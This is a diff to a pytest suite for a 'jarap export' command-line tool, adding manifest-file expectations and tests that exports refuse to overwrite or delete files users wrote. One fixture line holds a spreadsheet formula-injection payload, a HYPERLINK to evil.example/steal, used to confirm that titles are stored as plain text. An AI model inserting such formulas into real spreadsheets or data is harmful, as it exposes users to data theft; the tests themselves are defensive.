@@ -22,6 +22,7 @@ openpyxl = pytest.importorskip("openpyxl")
 TEXT_0721 = SAMPLES / "tracker-2021" / "northshire-tracker-2021-07.txt"
 ATTACK = '=HYPERLINK("http://evil.example/steal","Click for details")'
 JSONL = {f"{n}.jsonl" for n in export_module.FILES}
+MANIFEST = export_module.MANIFEST
 
 
 @pytest.fixture(scope="module")
@@ -45,8 +46,8 @@ def test_a_formula_in_a_paper_is_text_in_the_xlsx(hostile_db: str, tmp_path: Pat
     )
     assert result.exit_code == 0, result.output
     ws = openpyxl.load_workbook(out / "archive.xlsx")["recommendations"]
-    header = [c.value for c in ws[1]]
-    titles = [row[header.index("title")] for row in ws.iter_rows(min_row=2)]
+    header = [c.value for c in ws[1]]  # in words: "Title"
+    titles = [row[header.index("Title")] for row in ws.iter_rows(min_row=2)]
     (cell,) = [c for c in titles if c.value == ATTACK]
     assert cell.data_type == "s"
     with zipfile.ZipFile(out / "archive.xlsx") as z:
@@ -80,7 +81,7 @@ def test_a_failed_export_leaves_the_previous_one_whole(
     out = tmp_path / "export"
     assert CliRunner().invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
     before = {p.name: p.read_bytes() for p in out.iterdir()}
-    assert set(before) == JSONL
+    assert set(before) == JSONL | {MANIFEST}
     real = export_module.write_jsonl
     written: list[str] = []
 
@@ -112,13 +113,58 @@ def test_the_folder_holds_one_consistent_export(hostile_db: str, tmp_path: Path)
         ).exit_code
         == 0
     )
-    assert {p.name for p in out.iterdir()} == {"archive.xlsx", "README.txt"}
+    assert {p.name for p in out.iterdir()} == {"archive.xlsx", "README.txt", MANIFEST}
     assert runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
-    assert {p.name for p in out.iterdir()} == JSONL | {"README.txt"}  # old workbook gone
+    assert {p.name for p in out.iterdir()} == JSONL | {"README.txt", MANIFEST}  # old workbook gone
     assert (
         runner.invoke(
             cli, ["export", "--db", hostile_db, "--out", str(out), "--format", "xlsx"]
         ).exit_code
         == 0
     )
-    assert {p.name for p in out.iterdir()} == {"archive.xlsx", "README.txt"}
+    assert {p.name for p in out.iterdir()} == {"archive.xlsx", "README.txt", MANIFEST}
+
+
+OURS = sorted(JSONL | {"archive.xlsx"})
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "xlsx"])
+@pytest.mark.parametrize("name", OURS)
+def test_export_never_overwrites_or_removes_a_file_it_did_not_write(
+    hostile_db: str, tmp_path: Path, fmt: str, name: str
+) -> None:
+    """Every name an export of either format uses, held by a user's own file: the export of
+    the format that writes that name refuses with one line and changes nothing (--force
+    overwrites); the other format leaves the file alone."""
+    out = tmp_path / "export"
+    out.mkdir()
+    own = out / name
+    own.write_bytes(b"the migration team's own file\n")
+    args = ["export", "--db", hostile_db, "--out", str(out), "--format", fmt]
+    result = CliRunner().invoke(cli, args)
+    writes = name == "archive.xlsx" if fmt == "xlsx" else name != "archive.xlsx"
+    if writes:
+        assert result.exit_code == 1
+        assert result.output.count("\n") == 1 and "not written by jarap export" in result.output
+        assert [p.name for p in out.iterdir()] == [name]  # nothing written, nothing left
+        forced = CliRunner().invoke(cli, [*args, "--force"])
+        assert forced.exit_code == 0 and own.read_bytes() != b"the migration team's own file\n"
+    else:
+        assert result.exit_code == 0, result.output
+        assert own.read_bytes() == b"the migration team's own file\n"
+
+
+def test_an_export_file_edited_by_a_user_is_theirs(hostile_db: str, tmp_path: Path) -> None:
+    out = tmp_path / "export"
+    runner = CliRunner()
+    assert runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
+    assert runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)]).exit_code == 0
+    with (out / "papers.jsonl").open("a") as fh:
+        fh.write('{"note": "added by hand"}\n')
+    edited = (out / "papers.jsonl").read_bytes()
+    result = runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out)])
+    assert result.exit_code == 1 and "papers.jsonl was not written by jarap export" in result.output
+    xlsx = runner.invoke(cli, ["export", "--db", hostile_db, "--out", str(out), "--format", "xlsx"])
+    assert xlsx.exit_code == 0
+    assert (out / "papers.jsonl").read_bytes() == edited  # not removed with the other jsonl
+    assert not (out / "actions.jsonl").exists()  # ours, unchanged: replaced by the workbook
